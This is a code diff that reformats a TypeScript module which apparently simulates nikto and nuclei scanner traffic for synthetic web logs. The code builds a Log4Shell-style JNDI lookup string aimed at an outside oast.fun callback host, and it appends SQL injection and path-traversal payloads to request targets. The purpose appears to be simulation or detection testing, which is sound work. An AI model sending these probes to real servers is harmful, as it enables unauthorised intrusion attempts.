@@ -7,7 +7,14 @@
 import type { Random } from '../random.js';
 import { minutes, seconds } from '../clock.js';
 import { BROWSER_USER_AGENTS } from '../catalog/user-agents.js';
-import { DIRECTORY_WORDS, SCANNER_PATHS, SCANNER_USER_AGENTS, SQLMAP_RANDOM_AGENTS, SQL_INJECTION_PAYLOADS, TRAVERSAL_TARGETS } from '../catalog/web-attacks.js';
+import {
+  DIRECTORY_WORDS,
+  SCANNER_PATHS,
+  SCANNER_USER_AGENTS,
+  SQLMAP_RANDOM_AGENTS,
+  SQL_INJECTION_PAYLOADS,
+  TRAVERSAL_TARGETS,
+} from '../catalog/web-attacks.js';
 
 /** An endpoint that takes a parameter (and ignores or chokes on what it does not expect). */
 export interface InjectableEndpoint {
@@ -98,7 +105,13 @@ function nikto(rng: Random, scan: Scan, start: number): number {
     const roll = rng.float();
     const method = roll < 0.03 ? rng.pick(['OPTIONS', 'PROPFIND', 'TRACE', 'DEBUG']) : roll < 0.08 ? 'HEAD' : 'GET';
     const target =
-      test === 1 ? '/' : rng.chance(0.6) ? rng.pick(SCANNER_PATHS) : rng.chance(0.2) ? rng.pick(TRAVERSAL_TARGETS) : `/${rng.pick(DIRECTORY_WORDS)}.${rng.pick(['php', 'asp', 'cgi', 'pl', 'bak', 'old', 'inc'])}`;
+      test === 1
+        ? '/'
+        : rng.chance(0.6)
+          ? rng.pick(SCANNER_PATHS)
+          : rng.chance(0.2)
+            ? rng.pick(TRAVERSAL_TARGETS)
+            : `/${rng.pick(DIRECTORY_WORDS)}.${rng.pick(['php', 'asp', 'cgi', 'pl', 'bak', 'old', 'inc'])}`;
     scan.send(time, method, target, SCANNER_USER_AGENTS.nikto(test));
     time += Math.round(rng.exponential(gap));
   }
@@ -131,7 +144,8 @@ function nuclei(rng: Random, scan: Scan, start: number): number {
     let target: string;
     if (roll < 0.65) target = rng.pick(SCANNER_PATHS);
     else if (roll < 0.8) target = rng.pick(TRAVERSAL_TARGETS);
-    else if (roll < 0.9) target = `/?x=${encodeURIComponent(`\${jndi:ldap://${rng.chars('abcdefghijklmnopqrstuvwxyz0123456789', 20)}.oast.fun/a}`)}`;
+    else if (roll < 0.9)
+      target = `/?x=${encodeURIComponent(`\${jndi:ldap://${rng.chars('abcdefghijklmnopqrstuvwxyz0123456789', 20)}.oast.fun/a}`)}`;
     else {
       const endpoint = rng.pick(scan.app.injectable);
       target = `${endpoint.path}?${endpoint.parameter}=${encodeURIComponent(sqlPayload(rng, endpoint.value))}`;
